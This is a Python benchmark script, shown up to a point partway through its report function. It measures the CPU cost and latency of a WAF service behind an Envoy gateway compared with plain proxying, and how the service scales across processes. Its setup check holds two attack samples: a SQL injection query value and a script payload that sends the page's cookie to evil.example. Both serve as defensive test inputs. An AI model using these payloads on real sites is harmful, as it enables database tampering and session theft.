"""The WAF through a real gateway: CPU per request of Envoy + the WAF service, and the latency
it adds, beside plain proxying measured in the same run; how the service scales with processes.

What runs, started as the tests start it (tests/test_waf.py, tests/xds_harness.py): two real
control planes (``python -m controlplane serve``), each pushing its policy over ADS to its own
gateway Envoy (``--concurrency 1``, access log off): one policy without a ``waf`` section (plain
proxying, the floor), one with ``waf: {mode: prevent}`` (the defaults otherwise: 500 ms timeout,
1 MiB body limit, the built-in rules) whose service, ``python -m controlplane waf``, gets its
rules and the operations' positive models from that control plane over xDS. The backend is a
third Envoy (static, ``--concurrency 1``) answering 200 itself (``direct_response``) once it has
read the whole body (a buffer filter: an answer before the body's end would close the gateway's
upstream connection), so that the backend costs little and the same in every case.

Both gateways serve the same OpenAPI description (a shop: product search with typed query
parameters, orders and a product import with JSON schemas) twice: under ``/a`` (inspected on
the WAF gateway) and under ``/o`` (``defaults: {waf: {mode: "off"}}`` on the WAF gateway). Every
request carries the headers a browser's API client sends (user agent, ``Accept: application/json,
text/plain, */*``, languages, a cookie). Cases:

- ``plain GET``, ``plain 1 KB POST``, ``plain 16 KB POST``: the gateway without a ``waf``
  section: the floors;
- ``plain 1 KB POST at the inspected one's rate``: the same, the client pacing itself to the
  rate of the inspected 1 KB POST's last run: Envoy's CPU per request grows as its rate falls
  (fewer events handled per wakeup), and the inspected cases run at a fraction of plain's rate,
  so Envoy's own share of an inspection lies between the two floors;
- ``WAF off, GET`` and ``WAF off, 1 KB POST``: the same requests to an operation with the WAF
  ``off`` on the WAF gateway (the ext_authz filters are in its chain but not turned on);
  each run checks that the service saw none of them;
- ``inspected GET``: six query parameters (free text with an apostrophe, an enum, integers);
- ``inspected 1 KB POST``: a realistic nested order (customer, address, items, a gift message,
  delivery notes), ``application/json``, prevent mode;
- ``inspected 1 KB POST, no schema``: the same body to an operation whose request body has no
  schema: every string goes through the detectors (the positive model's share);
- ``inspected 16 KB POST``: a product import (about 30 products with descriptions of three
  sentences, tags, attributes).

Each inspected run checks that the service passed exactly as many requests as were answered
(none refused, none failed open). Before measuring, an attack (``' OR 1=1--`` in the query and a
``<script>`` in the order's gift message) is checked to be refused under ``/a`` and let through
under ``/o``.

The load client is Python (its own process, non-blocking sockets on one ``selectors`` loop),
``--connections`` keep-alive connections (default 1: the latency a request sees when the
service is not busy with another one; one service process inspects one request at a time, so
with N in flight each waits for the others, as the scaling part shows at 32), one request in
flight each, opened before the measured runs, for runs of ``--seconds``; it times every
request from its send to the end of its response. CPU per process from /proc before and after
each run (every thread's schedstat, or the process's ticks when a thread came or went): the
gateway Envoy, the WAF service, the backend Envoy, the client. Also the service's own
inspection time (its
``waf_inspection_seconds`` histogram's sum over its count: an exact mean). Cases run in
rounds, shuffled in each; ratios and differences per round against the floor of the same
round, median (min-max). Goals (issue 11): a route with nothing to inspect costs nothing
extra; an inspected 1 KB JSON POST adds <= 0.5 ms p50 latency and its CPU (gateway Envoy + WAF
service) stays <= 3x plain's (the gateway Envoy's).

Parts (``--part``, default both; each runs alone with its own processes):

``cpu``: the cases above.

``scaling``: the inspected 1 KB POST at saturation (``--saturation-connections``, default 32)
through the WAF gateway with one service process, two processes listening on the same port
(``SO_REUSEPORT``: the kernel spreads *connections*; the check is HTTP/1.1, so Envoy opens one
per call in flight), and two processes on two ports both listed in ``waf.service.endpoints``
(Envoy spreads the calls). The configurations alternate by live policy edits, in rounds;
requests/s, the services' CPU per request, each process's share of the calls, Envoy's open
connections to the service, and the cores the whole run kept busy (everything, client
included).

    python bench/waf_bench.py                  # about 3 minutes
    python bench/waf_bench.py --quick          # under a minute: a smoke run
    python bench/waf_bench.py --part scaling   # one part (cpu, scaling)
    python bench/waf_bench.py --client         # (internal: the load client's process)
"""

from __future__ import annotations

import argparse
import contextlib
import gc
import heapq
import json
import random
import selectors
import socket
import subprocess
import sys
import tempfile
import time
import urllib.parse
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from _common import LoadClient, git_state, machine, median, response_frame, spread, table

BENCH = Path(__file__).resolve().parent
REPO = BENCH.parent
sys.path.insert(0, str(REPO))

from ratelimit_bench import cpu_between, read_cpu  # noqa: E402
from tls_bench import envoy_version  # noqa: E402

from tests.harness import EnvoyProcess, free_port, stop_process  # noqa: E402
from tests.xds_harness import ControlPlaneProcess, http_get, start_envoy, wait_for  # noqa: E402

UNDER_LOAD = "taken under load (other work running)"
HOST = "shop.example"
LATENCY_GOAL_MS, CPU_GOAL = 0.5, 3.0

SPEC = """
openapi: 3.0.3
info: {title: shop, version: "1"}
paths:
  /products:
    get:
      operationId: searchProducts
      parameters:
        - {name: q, in: query, schema: {type: string, maxLength: 200}}
        - {name: category, in: query, schema: {type: string, enum: [sport, outdoor, casual, kids]}}
        - {name: brand, in: query, schema: {type: string, maxLength: 60}}
        - {name: sort, in: query, schema: {type: string, enum: [relevance, price, -price, rating, newest]}}
        - {name: page, in: query, schema: {type: integer, minimum: 1}}
        - {name: limit, in: query, schema: {type: integer, minimum: 1, maximum: 100}}
      responses: {"200": {description: ok}}
  /orders:
    post:
      operationId: createOrder
      requestBody:
        required: true
        content: {application/json: {schema: {$ref: "#/components/schemas/Order"}}}
      responses: {"200": {description: ok}}
  /drafts:
    post:
      operationId: saveDraft
      requestBody: {required: true, content: {application/json: {}}}
      responses: {"200": {description: ok}}
  /products/import:
    post:
      operationId: importProducts
      requestBody:
        required: true
        content:
          application/json:
            schema:
              type: object
              required: [products]
              properties:
                source: {type: string}
                products: {type: array, maxItems: 500, items: {$ref: "#/components/schemas/Product"}}
      responses: {"200": {description: ok}}
components:
  schemas:
    Address:
      type: object
      required: [line1, city, postcode, country]
      properties:
        name: {type: string}
        line1: {type: string}
        line2: {type: string}
        city: {type: string}
        region: {type: string}
        postcode: {type: string}
        country: {type: string, pattern: "^[A-Z]{2}$"}
    Order:
      type: object
      required: [customer, shipping, items]
      properties:
        customer:
          type: object
          required: [id, name, email]
          properties:
            id: {type: string, pattern: "^c_[0-9a-f]{8}$"}
            name: {type: string}
            email: {type: string, format: email}
            phone: {type: string}
            marketingOptIn: {type: boolean}
        shipping: {$ref: "#/components/schemas/Address"}
        billing: {$ref: "#/components/schemas/Address"}
        items:
          type: array
          minItems: 1
          items:
            type: object
            required: [sku, quantity, unitPrice]
            properties:
              sku: {type: string, pattern: "^[A-Z0-9-]+$"}
              name: {type: string}
              quantity: {type: integer, minimum: 1}
              unitPrice: {type: number}
              options: {type: object, additionalProperties: {type: string}}
        currency: {type: string, enum: [EUR, GBP, USD]}
        coupon: {type: string}
        giftMessage: {type: string, maxLength: 500}
        deliveryNotes: {type: string, maxLength: 500}
        metadata:
          type: object
          properties:
            channel: {type: string, enum: [web, ios, android]}
            experiments: {type: array, items: {type: string}}
            referrer: {type: string}
    Product:
      type: object
      required: [sku, name, price]
      properties:
        sku: {type: string, pattern: "^[A-Z0-9-]+$"}
        name: {type: string}
        description: {type: string}
        price: {type: number}
        currency: {type: string, enum: [EUR, GBP, USD]}
        stock: {type: integer}
        tags: {type: array, items: {type: string}}
        attributes: {type: object, additionalProperties: {type: string}}
"""

POLICY = """
apiVersion: controlplane.dev/v1
kind: GatewayPolicy
gateway: {{accessLog: false}}
listeners: [{{name: bench, address: 127.0.0.1, port: {port}}}]
upstreams: [{{name: backend, endpoints: ["127.0.0.1:{backend}"]}}]
{waf}apis:
  - {{name: shop, spec: shop.yaml, upstream: backend, pathPrefix: /a}}
  - {{name: shop-off, spec: shop.yaml, upstream: backend, pathPrefix: /o{off}}}
"""


def policy(port: int, backend: int, waf_ports: list[int] | None) -> str:
    if waf_ports is None:
        return POLICY.format(port=port, backend=backend, waf="", off="")
    endpoints = ", ".join(f'"127.0.0.1:{p}"' for p in waf_ports)
    waf = f"waf:\n  service: {{endpoints: [{endpoints}]}}\n  mode: prevent\n"
    return POLICY.format(port=port, backend=backend, waf=waf, off=', defaults: {waf: {mode: "off"}}')


# -- the requests --------------------------------------------------------------------------------

HEADERS = (
    "User-Agent: Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/126.0.0.0 Safari/537.36\r\n"
    "Accept: application/json, text/plain, */*\r\n"
    "Accept-Language: en-IE,en-GB;q=0.9,en;q=0.8,ga;q=0.6\r\n"
    "Accept-Encoding: gzip, deflate, br\r\n"
    "Cookie: sid=9f2c41d07ab84e5c93e1f6a2b7d0c853; theme=dark; consent=analytics%3Dno%2Cads%3Dno\r\n"
)

QUERY = urllib.parse.urlencode(
    {"q": "men's trail running shoes", "category": "sport", "brand": "O'Neill", "sort": "-price", "page": 2}
    | {"limit": 24}
)


def order() -> dict[str, Any]:
    """A realistic order of about 1 KB: nested objects, an array, free text with punctuation."""
    return {
        "customer": {
            "id": "c_8f3a2b91",
            "name": "Siobhán O'Connor",
            "email": "siobhan.oconnor@example.ie",
            "phone": "+353 21 555 0142",
            "marketingOptIn": False,
        },
        "shipping": {
            "name": "Siobhán O'Connor",
            "line1": "12 Harbour View",
            "line2": "Apt. 4B (side entrance)",
            "city": "Cork",
            "region": "Co. Cork",
            "postcode": "T12 X2Y3",
            "country": "IE",
        },
        "items": [
            {
                "sku": "RUN-4471-BLK-42",
                "name": "Trail runner 4 - black, EU 42",
                "quantity": 1,
                "unitPrice": 119.95,
                "options": {"width": "wide", "laces": "spare pair"},
            },
            {"sku": "SOCK-2202-3PK", "name": "Merino socks, 3-pack (M)", "quantity": 2, "unitPrice": 18.5},
            {"sku": "BTL-0750-STL", "name": "Steel bottle 750 ml", "quantity": 1, "unitPrice": 24.0},
        ],
        "currency": "EUR",
        "coupon": "SUMMER-10",
        "giftMessage": "Happy 40th, Ciarán! Don't run too far - we'd miss you :) Love, Mum & Dad x",
        "deliveryNotes": "If nobody's home, leave it with the neighbour at no. 14 (or in the shed).",
        "metadata": {
            "channel": "web",
            "experiments": ["checkout-v2", "free-shipping-banner"],
            "referrer": "https://www.example.ie/blog/best-trail-shoes?utm_source=newsletter",
        },
    }


SENTENCES = (
    "Lightweight, breathable shell with taped seams and a peaked hood that stays put in a headwind.",
    "100% recycled nylon face fabric (88/12 nylon/elastane stretch panels at the elbows).",
    "Two zipped hand pockets, a chest pocket that fits a phone, and a stuff sack - it packs to the size "
    "of a grapefruit.",
    "Machine washable at 30°C; don't tumble dry or iron the print.",
    "Fits true to size: if you're between sizes, or layer a fleece underneath, go one size up.",
    'Tested on the West Highland Way in October, where it kept us dry for 3 days of "soft" Scottish rain.',
    "Ships in 2-3 working days (Mon-Fri); free returns within 30 days, no questions asked.",
    "Waterproof to 20,000 mm & breathable to 15,000 g/m²/24h - see the size & care guide for details.",
    "Note: colours may vary slightly from the photos; the 'Forest' green is darker in real life.",
)


def products(target: int) -> dict[str, Any]:
    """A product import of about ``target`` bytes of JSON."""
    rng = random.Random(16)
    doc: dict[str, Any] = {"source": "supplier-feed 2024-06 (ACME Outdoor Ltd.)", "products": []}
    i = 0
    while len(json.dumps(doc)) < target:
        doc["products"].append(
            {
                "sku": f"ACM-{1000 + i}-{rng.choice(['BLK', 'RED', 'NVY', 'GRN'])}",
                "name": f"{rng.choice(['Ridge', 'Cairn', 'Scree', 'Bothy'])} {rng.choice(['2.5L', '3L'])} "
                f"jacket, {rng.choice(['men', 'women'])}'s {rng.choice(['S', 'M', 'L', 'XL'])}",
                "description": " ".join(rng.sample(SENTENCES, 3)),
                "price": round(rng.uniform(20, 250), 2),
                "currency": "EUR",
                "stock": rng.randint(0, 400),
                "tags": rng.sample(["outdoor", "waterproof", "men's", "women's", "sale", "new", "eco"], 3),
                "attributes": {"material": "nylon/elastane (88/12)", "fit": "regular", "care": "30°C, no dryer"},
            }
        )
        i += 1
    doc["products"].pop()
    return doc


ORDER = json.dumps(order()).encode()
IMPORT = json.dumps(products(16 * 1024)).encode()


def request(method: str, path: str, body: bytes = b"") -> str:
    head = f"{method} {path} HTTP/1.1\r\nHost: {HOST}\r\n{HEADERS}"
    if method == "POST":
        head += f"Content-Type: application/json\r\nContent-Length: {len(body)}\r\n"
    return head + "\r\n" + body.decode("latin-1")


# -- the load client (its own process) ---------------------------------------------------------


def _percentile(sorted_ns: list[int], q: float) -> float:
    return sorted_ns[min(len(sorted_ns) - 1, int(q * len(sorted_ns)))] / 1000 if sorted_ns else float("nan")


def load(cmd: dict[str, Any], pools: dict[int, list[socket.socket]]) -> dict[str, Any]:
    """Requests for ``seconds`` over ``connections`` keep-alive connections, one in flight each,
    each timed from its send to the end of its response; with ``rate``, each connection sends
    at most every ``connections / rate`` seconds."""
    port: int = cmd["port"]
    request_bytes = cmd["request"].encode("latin-1")
    pool = [] if cmd.get("fresh") else pools.setdefault(port, [])
    opened = 0
    while len(pool) < cmd["connections"]:
        s = socket.create_connection(("127.0.0.1", port))
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        pool.append(s)
        opened += 1
    conns = pool[: cmd["connections"]]
    interval = int(len(conns) / cmd["rate"] * 1e9) if cmd.get("rate") else 0
    sel = selectors.DefaultSelector()
    bufs = [b""] * len(conns)
    sent_at = [0] * len(conns)
    due = [0] * len(conns)  # paced: when each connection's next request is due (a steady timeline)
    waiting: list[tuple[int, int]] = []  # (when to send, connection): paced connections between requests
    latencies: list[int] = []
    statuses: dict[str, int] = {}
    failures: list[str] = []
    sample = ""

    def send(i: int) -> None:
        sent_at[i] = time.perf_counter_ns()
        conns[i].sendall(request_bytes)

    gc.disable()  # no collection pause inside a timed request
    started = time.perf_counter()
    cpu = time.process_time()
    deadline = time.perf_counter_ns() + int(cmd["seconds"] * 1e9)
    for i, s in enumerate(conns):
        sel.register(s, selectors.EVENT_READ, i)
        send(i)
        due[i] = sent_at[i]
    active = len(conns)
    while active:
        timeout = max(0.0, (waiting[0][0] - time.perf_counter_ns()) / 1e9) if waiting else 10.0
        events = sel.select(timeout)
        while waiting and waiting[0][0] <= time.perf_counter_ns():
            send(heapq.heappop(waiting)[1])
        if not events and not waiting and timeout == 10.0:
            failures.append(f"stalled with {active} requests in flight")
            break
        for key, _mask in events:
            i = key.data
            s = conns[i]
            data = s.recv(262144)
            now = time.perf_counter_ns()
            if not data:
                failures.append("the gateway closed a connection")
                sel.unregister(s)
                pool.remove(s)
                s.close()
                active -= 1
                continue
            buf = bufs[i] + data
            done = response_frame(buf)
            if done is None:
                bufs[i] = buf
                continue
            status, length = done
            latencies.append(now - sent_at[i])
            statuses[str(status)] = statuses.get(str(status), 0) + 1
            if status != 200 and not sample:
                sample = buf[:length].decode("latin-1")[:400]
            bufs[i] = buf[length:]
            due[i] = max(due[i] + interval, now - interval)  # late wakeups caught up, never in a burst
            if now >= deadline:
                sel.unregister(s)
                active -= 1
            elif due[i] > now:
                heapq.heappush(waiting, (due[i], i))
            else:
                send(i)
    wall = time.perf_counter() - started
    cpu = time.process_time() - cpu
    gc.enable()
    sel.close()
    if cmd.get("fresh"):
        for s in pool:
            s.close()
    latencies.sort()
    return {
        "statuses": statuses,
        "wall": wall,
        "cpu": cpu,
        "opened": opened,
        "failures": failures,
        "sample": sample,
        "p50_us": _percentile(latencies, 0.5),
        "p99_us": _percentile(latencies, 0.99),
        "mean_us": sum(latencies) / len(latencies) / 1000 if latencies else float("nan"),
    }


def client_main() -> None:
    pools: dict[int, list[socket.socket]] = {}
    print(json.dumps({"ready": True}), flush=True)
    for line in sys.stdin:
        print(json.dumps(load(json.loads(line), pools)), flush=True)


# -- processes -----------------------------------------------------------------------------------


@dataclass
class WafProcess:
    """``python -m controlplane waf`` as a user runs it (plaintext xDS on loopback)."""

    workdir: Path
    xds: str
    port: int
    admin_port: int = field(default_factory=free_port)
    mask_port: int = field(default_factory=free_port)  # (no masking measured here)
    proc: subprocess.Popen[bytes] | None = None

    def start(self) -> WafProcess:
        with (self.workdir / f"waf-{self.admin_port}.log").open("ab") as log:
            self.proc = subprocess.Popen(
                [
                    *(sys.executable, "-m", "controlplane", "waf", "--listen", f"127.0.0.1:{self.port}"),
                    *("--mask-listen", f"127.0.0.1:{self.mask_port}"),
                    *("--xds", self.xds, "--insecure", "--admin-port", str(self.admin_port)),
                    *("--log-level", "warning"),
                ],
                stdout=log,
                stderr=subprocess.STDOUT,
                cwd=REPO,
            )
        return self

    def ready(self) -> bool:
        if self.proc is not None and self.proc.poll() is not None:
            raise RuntimeError(f"the WAF service exited: {self.logs()[-2000:]}")
        return http_get(self.admin_port, "/ready")[0] == 200

    def logs(self) -> str:
        return (self.workdir / f"waf-{self.admin_port}.log").read_text()

    def metrics(self) -> dict[str, float]:
        """Verdicts (``pass``, ``refused``, ``detected``) and the inspection histogram's sum and count."""
        _status, body = http_get(self.admin_port, "/metrics")
        out: dict[str, float] = {}
        for line in body.decode().splitlines():
            if line.startswith("waf_requests_total{"):
                verdict = line.split('verdict="', 1)[1].split('"', 1)[0]
                out[verdict] = out.get(verdict, 0.0) + float(line.rsplit(" ", 1)[1])
            elif line.startswith(("waf_inspection_seconds_sum ", "waf_inspection_seconds_count ")):
                name, value = line.split(" ")
                out[name.rsplit("_", 1)[1]] = float(value)
        return out

    def stop(self) -> None:
        stop_process(self.proc)


def backend_config(admin: int, port: int) -> dict[str, Any]:
    """A static Envoy answering 200 itself, after the whole request body (the buffer filter)."""
    hcm = {
        "@type": "type.googleapis.com/envoy.extensions.filters.network.http_connection_manager.v3"
        ".HttpConnectionManager",
        "stat_prefix": "backend",
        "route_config": {
            "virtual_hosts": [
                {
                    "name": "all",
                    "domains": ["*"],
                    "routes": [
                        {"match": {"prefix": "/"}, "direct_response": {"status": 200, "body": {"inline_string": "ok"}}}
                    ],
                }
            ]
        },
        "http_filters": [
            {
                "name": "envoy.filters.http.buffer",
                "typed_config": {
                    "@type": "type.googleapis.com/envoy.extensions.filters.http.buffer.v3.Buffer",
                    "max_request_bytes": 1 << 20,
                },
            },
            {
                "name": "envoy.filters.http.router",
                "typed_config": {"@type": "type.googleapis.com/envoy.extensions.filters.http.router.v3.Router"},
            },
        ],
    }
    return {
        "admin": {"address": {"socket_address": {"address": "127.0.0.1", "port_value": admin}}},
        "static_resources": {
            "listeners": [
                {
                    "name": "backend",
                    "address": {"socket_address": {"address": "127.0.0.1", "port_value": port}},
                    "filter_chains": [
                        {"filters": [{"name": "envoy.filters.network.http_connection_manager", "typed_config": hcm}]}
                    ],
                }
            ]
        },
    }


class Gateway:
    """A control plane with its config directory, and its gateway Envoy."""

    def __init__(self, work: Path, name: str, backend: int, waf_ports: list[int] | None):
        self.dir = work / name
        self.dir.mkdir()
        self.port, self.backend = free_port(), backend
        (self.dir / "shop.yaml").write_text(SPEC)
        self.write(waf_ports)
        self.plane = ControlPlaneProcess([self.dir], work).start()
        self.envoy: EnvoyProcess | None = None

    def write(self, waf_ports: list[int] | None) -> None:
        tmp = self.dir / "policy.yaml.tmp"
        tmp.write_text(policy(self.port, self.backend, waf_ports))
        tmp.rename(self.dir / "policy.yaml")  # the watcher never sees half a file

    def start_envoy(self, node: str) -> None:
        self.envoy = start_envoy(self.dir.parent, self.plane, node_id=node)

    def stat_sum(self, suffix: str, prefix: str = "") -> float:
        assert self.envoy is not None
        _status, text = self.envoy.admin(f"/stats?filter={suffix}$")
        return sum(
            float(value)
            for name, _, value in (line.partition(": ") for line in text.splitlines())
            if name.startswith(prefix) and name.endswith(suffix) and value.strip().isdigit()
        )

    def waf_hosts(self) -> set[int]:
        """Ports of the WAF service cluster's hosts in Envoy."""
        assert self.envoy is not None
        _status, text = self.envoy.admin("/clusters")
        return {
            int(parts[1].rsplit(":", 1)[1])
            for parts in (line.split("::") for line in text.splitlines())
            if parts[0] == "waf-service" and len(parts) > 2 and parts[2] == "cx_active"
        }

    def waf_connections(self) -> int:
        """Envoy's open connections to the WAF service's hosts."""
        assert self.envoy is not None
        _status, text = self.envoy.admin("/clusters")
        return sum(
            int(parts[3])
            for parts in (line.split("::") for line in text.splitlines())
            if parts[0] == "waf-service" and len(parts) > 3 and parts[2] == "cx_active"
        )

    def stop(self) -> None:
        if self.envoy is not None:
            self.envoy.stop()
        self.plane.stop()


# -- the rig -------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Case:
    name: str
    gateway: str  # plain, waf
    request: str
    floor: str  # the case of the same round it is compared with
    inspected: bool = False
    pace: str | None = None  # sent at the rate this case last ran at


PLAIN_GET, PLAIN_POST, PLAIN_BIG = "plain GET", "plain 1 KB POST", "plain 16 KB POST"
# Envoy's CPU per request grows as its rate falls (fewer events handled per wakeup), and the
# inspected cases run at a fraction of plain's rate: the same request at the inspected one's rate.
PLAIN_SLOW = "plain 1 KB POST at the inspected one's rate (a low-rate floor)"
OFF_GET, OFF_POST = "WAF off, GET", "WAF off, 1 KB POST"
WAF_GET, WAF_POST, WAF_UNTYPED, WAF_BIG = (
    "inspected GET",
    "inspected 1 KB POST",
    "inspected 1 KB POST, no schema",
    "inspected 16 KB POST",
)


def cpu_cases() -> list[Case]:
    def get(prefix: str) -> str:
        return request("GET", f"{prefix}/products?{QUERY}")

    def post(prefix: str, path: str = "/orders") -> str:
        return request("POST", f"{prefix}{path}", ORDER)

    def big(prefix: str) -> str:
        return request("POST", f"{prefix}/products/import", IMPORT)

    return [
        Case(PLAIN_GET, "plain", get("/a"), PLAIN_GET),
        Case(PLAIN_POST, "plain", post("/a"), PLAIN_POST),
        Case(PLAIN_BIG, "plain", big("/a"), PLAIN_BIG),
        Case(PLAIN_SLOW, "plain", post("/a"), PLAIN_SLOW, pace=WAF_POST),
        Case(OFF_GET, "waf", get("/o"), PLAIN_GET),
        Case(OFF_POST, "waf", post("/o"), PLAIN_POST),
        Case(WAF_GET, "waf", get("/a"), PLAIN_GET, inspected=True),
        Case(WAF_POST, "waf", post("/a"), PLAIN_POST, inspected=True),
        Case(WAF_UNTYPED, "waf", post("/a", "/drafts"), PLAIN_POST, inspected=True),
        Case(WAF_BIG, "waf", big("/a"), PLAIN_BIG, inspected=True),
    ]


class Rig:
    """The backend Envoy, the gateways and the WAF service processes, for one part."""

    def __init__(self, work: Path, plain: bool, services: dict[str, int], endpoints: list[str]):
        """``services``: name -> port (names sharing a port share it with SO_REUSEPORT);
        ``endpoints``: the names whose ports the policy lists first."""
        self.work = work
        self.started: list[Any] = []
        self.services: dict[str, WafProcess] = {}
        backend_port, admin = free_port(), free_port()
        try:
            self.backend = EnvoyProcess(backend_config(admin, backend_port), work, admin)
            self.started.append(self.backend)
            self.plain: Gateway | None = None
            if plain:
                self.plain = Gateway(work, "plain", backend_port, None)
                self.started.append(self.plain)
                self.plain.start_envoy("plain")
            self.waf = Gateway(work, "waf", backend_port, self.ports(endpoints, services))
            self.started.append(self.waf)
            xds = f"127.0.0.1:{self.waf.plane.xds_port}"
            for name, port in services.items():
                self.services[name] = WafProcess(work, xds, port).start()
                self.started.append(self.services[name])
            for service in self.services.values():
                wait_for(service.ready, 30, "the WAF service's rules")
            self.waf.start_envoy("waf")
            self.endpoints = self.ports(endpoints, services)
            wait_for(lambda: self.waf.waf_hosts() == set(self.endpoints), 30, "the WAF cluster in Envoy")
            self.client = LoadClient(Path(__file__))
            self.started.append(self.client)
        except BaseException:
            self.stop()
            raise

    @staticmethod
    def ports(names: list[str], services: dict[str, int]) -> list[int]:
        return sorted({services[n] for n in names})

    def gateway(self, case: Case) -> Gateway:
        gw = self.waf if case.gateway == "waf" else self.plain
        assert gw is not None
        return gw

    def check_setup(self) -> None:
        """What the cases claim: the WAF refuses an attack under /a and lets it through under /o;
        the plain gateway lets it through."""
        attack_get = request("GET", "/a/products?" + urllib.parse.urlencode({"q": "x' OR 1=1--"}))
        evil = order() | {
            "giftMessage": "<script>document.location='https://evil.example/?c='+document.cookie</script>"
        }
        attack_post = request("POST", "/a/orders", json.dumps(evil).encode())
        expect = [
            (self.waf, attack_get, "403"),
            (self.waf, attack_post, "403"),
            (self.waf, attack_get.replace(" /a/", " /o/", 1), "200"),
            (self.waf, attack_post.replace(" /a/", " /o/", 1), "200"),
        ]
        if self.plain is not None:
            expect.append((self.plain, attack_post, "200"))
        for gw, req, status in expect:
            out = self.client.run(port=gw.port, request=req, connections=1, seconds=0, fresh=True)
            if set(out["statuses"]) != {status}:
                raise SystemExit(f"setup check: {req.split(chr(13))[0]} on {gw.dir.name}: {out}")

    def use_endpoints(self, names: list[str], services: dict[str, int]) -> None:
        ports = self.ports(names, services)
        if ports == self.endpoints:
            return
        self.waf.write(ports)
        wait_for(lambda: self.waf.waf_hosts() == set(ports), 30, f"Envoy to get the WAF endpoints {ports}")
        self.endpoints = ports

    def run(
        self,
        case: Case,
        seconds: float,
        connections: int,
        warm: bool = False,
        saturated: bool = False,
        rate: float = 0.0,
    ) -> dict[str, Any]:
        gw = self.gateway(case)
        assert gw.envoy is not None
        pids = {
            "envoy": [gw.envoy.proc.pid],
            "service": [s.proc.pid for s in self.services.values() if s.proc is not None],
            "backend": [self.backend.proc.pid],
            "client": [self.client.proc.pid],
        }
        metrics0 = {n: s.metrics() for n, s in self.services.items()}
        upstream0 = gw.stat_sum("upstream_cx_total")
        before = {part: [read_cpu(p) for p in ps] for part, ps in pids.items()}
        out = self.client.run(port=gw.port, request=case.request, connections=connections, seconds=seconds, rate=rate)
        after = {part: [read_cpu(p) for p in ps] for part, ps in pids.items()}
        upstream1 = gw.stat_sum("upstream_cx_total")
        metrics1 = {n: s.metrics() for n, s in self.services.items()}
        n = sum(out["statuses"].values())
        if out["failures"] or set(out["statuses"]) != {"200"} or n == 0:
            findings = [line for s in self.services.values() for line in s.logs().splitlines() if "findings" in line]
            raise SystemExit(f"{case.name}: {out}\nthe WAF's last findings:\n" + "\n".join(findings[-5:]))
        # what each case claims to measure: no connection setup, every request inspected (and
        # passed) or none sent to the service at all
        result_upstream = (upstream1 - upstream0) / n
        # (at saturation Envoy's HTTP/1.1 pool to the backend may grow: counted, not refused)
        if not warm and (out["opened"] or (upstream1 != upstream0 and not saturated)):
            raise SystemExit(
                f"{case.name}: {out['opened']} client and {upstream1 - upstream0:g} upstream connections "
                "opened during a kept-alive run"
            )
        calls = {
            name: {k: metrics1[name].get(k, 0.0) - metrics0[name].get(k, 0.0) for k in metrics1[name]}
            for name in metrics1
        }
        passed = sum(c.get("pass", 0.0) for c in calls.values())
        others = sum(v for c in calls.values() for k, v in c.items() if k in ("refused", "detected"))
        if others or passed != (n if case.inspected else 0):
            raise SystemExit(f"{case.name}: {n} answers, the service passed {passed:g}, refused or detected {others:g}")
        us = 1e6 / n
        result: dict[str, Any] = {f"{part}_us": sum(map(cpu_between, before[part], after[part])) * us for part in pids}
        result["total_us"] = result["envoy_us"] + result["service_us"]
        result["rps"] = n / out["wall"]
        result["cores"] = (result["total_us"] + result["backend_us"] + result["client_us"]) * result["rps"] / 1e6
        result["p50_us"], result["p99_us"] = out["p50_us"], out["p99_us"]
        count = sum(c.get("count", 0.0) for c in calls.values())
        result["inspect_us"] = sum(c.get("sum", 0.0) for c in calls.values()) / count * 1e6 if count else 0.0
        result["upstream_per_req"] = result_upstream
        result["calls"] = {name: c.get("pass", 0.0) for name, c in calls.items()}
        return result

    def stop(self) -> None:
        for part in reversed(self.started):
            with contextlib.suppress(Exception):
                part.stop()


# -- part 1: CPU and latency ---------------------------------------------------------------------


def cpu_part(work: Path, rounds: int, seconds: float, connections: int) -> dict[str, list[dict[str, Any]]]:
    cases = cpu_cases()
    rig = Rig(work, plain=True, services={"one": free_port()}, endpoints=["one"])
    results: dict[str, list[dict[str, Any]]] = {c.name: [] for c in cases}
    rates: dict[str, float] = {}  # each case's rate in its last run

    def run(case: Case, seconds: float, warm: bool = False) -> dict[str, Any]:
        out = rig.run(case, seconds, connections, warm=warm, rate=rates[case.pace] if case.pace else 0.0)
        rates[case.name] = out["rps"]
        return out

    try:
        rig.check_setup()
        # warm: keep-alive connections opened, every path taken once (paced cases last: their rate)
        for case in sorted(cases, key=lambda c: c.pace is not None):
            run(case, min(seconds, 0.5), warm=True)
        for r in range(rounds):
            order = cases[:]
            random.Random(r).shuffle(order)
            for case in order:
                results[case.name].append(run(case, seconds))
            print(
                f"  round {r + 1}/{rounds}: "
                + ", ".join(f"{c.name}: {results[c.name][-1]['total_us']:.0f} µs" for c in cases),
                flush=True,
            )
    finally:
        rig.stop()
    return results


def cpu_report(results: dict[str, list[dict[str, Any]]]) -> str:
    cases = {c.name: c for c in cpu_cases()}

    def col(name: str, key: str) -> list[float]:
        return [x[key] for x in results[name]]

    def against(name: str, floor: str, key: str, ratio: bool) -> list[float]:
        pairs = zip(results[name], results[floor], strict=True)
        return [x[key] / f[key] if ratio else x[key] - f[key] for x, f in pairs]

    def vs_floor(name: str, key: str, ratio: bool) -> list[float]:
        return against(name, cases[name].floor, key, ratio)

    rows = []
    for name, c in cases.items():
        floor = c.floor == name
        rows.append(
            [
                name,
                spread(col(name, "envoy_us")),
                spread(col(name, "service_us")),
                spread(col(name, "inspect_us")) if c.inspected else "-",
                spread(col(name, "total_us")),
                "floor" if floor else f"{spread(vs_floor(name, 'total_us', True))}x",
                "-" if floor else spread(vs_floor(name, "total_us", False)),
                spread(col(name, "p50_us")),
                "-" if floor else spread(vs_floor(name, "p50_us", False)),
                spread(col(name, "p99_us")),
                "-" if floor else spread(vs_floor(name, "p99_us", False)),
                spread(col(name, "backend_us")),
                spread(col(name, "client_us")),
                spread(col(name, "rps")),
            ]
        )
    out = table(
        [
            "case",
            "gateway Envoy µs/req",
            "WAF service µs/req",
            "of it inspecting (its timer)",
            "Envoy + service µs/req",
            "vs plain",
            "µs/req over plain",
            "latency p50 µs",
            "p50 added µs",
            "latency p99 µs",
            "p99 added µs",
            "backend Envoy µs/req",
            "client µs/req",
            "requests/s",
        ],
        rows,
    )
    envoy_share = {name: median(vs_floor(name, "envoy_us", False)) for name, c in cases.items() if c.floor != name}
